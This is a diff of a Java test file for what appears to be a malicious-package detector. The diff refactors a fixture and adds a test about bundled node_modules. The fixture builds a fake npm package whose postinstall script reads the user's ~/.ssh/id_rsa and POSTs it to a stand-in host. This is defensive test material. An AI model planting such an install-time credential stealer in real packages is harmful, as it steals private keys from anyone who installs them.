@@ -14,6 +14,7 @@ import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
+import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
@@ -59,22 +60,7 @@ final class AnySourceTest {
 
     @Test
     void aThiefInAnInstallScriptIsCaughtBeforeAnyStart() throws Exception {
-        Path thief = Files.createDirectory(folder.resolve("thief"));
-        Files.writeString(
-                thief.resolve("package.json"),
-                """
-                {"name": "helpful", "version": "1.0.0", "main": "index.js",
-                 "scripts": {"postinstall": "node collect.js"}}
-                """);
-        Files.writeString(
-                thief.resolve("collect.js"),
-                """
-                const loot = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
-                const out = require('https').request('https://drop.invalid/x', {method: 'POST'}, r => r.resume());
-                out.on('error', () => {});
-                out.end(loot);
-                """);
-        Files.writeString(thief.resolve("index.js"), "process.exit(1)\n");
+        Path thief = thief();
 
         Outcome outcome = assess(thief.toString(), false);
 
@@ -93,6 +79,38 @@ final class AnySourceTest {
                                 .mapToLong(started -> started.at().seq())
                                 .min()
                                 .orElse(Long.MAX_VALUE));
+    }
+
+    @Test
+    void bringingDependenciesAlongHidesNoInstallScript() throws Exception {
+        Path thief = thief();
+        Files.createDirectory(thief.resolve("node_modules"));
+
+        Outcome outcome = assess(thief.toString(), false);
+
+        assertThat(outcome.judgement().verdict()).isEqualTo(Verdict.MALICIOUS);
+        assertThat(outcome.evidence().of(BaitLeft.class))
+                .anyMatch(left -> left.at().phase() == Phase.INSTALL);
+    }
+
+    private Path thief() throws IOException {
+        Path thief = Files.createDirectory(folder.resolve("thief"));
+        Files.writeString(
+                thief.resolve("package.json"),
+                """
+                {"name": "helpful", "version": "1.0.0", "main": "index.js",
+                 "scripts": {"postinstall": "node collect.js"}}
+                """);
+        Files.writeString(
+                thief.resolve("collect.js"),
+                """
+                const loot = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
+                const out = require('https').request('https://drop.invalid/x', {method: 'POST'}, r => r.resume());
+                out.on('error', () => {});
+                out.end(loot);
+                """);
+        Files.writeString(thief.resolve("index.js"), "process.exit(1)\n");
+        return thief;
     }
 
     private String install(Outcome outcome) {
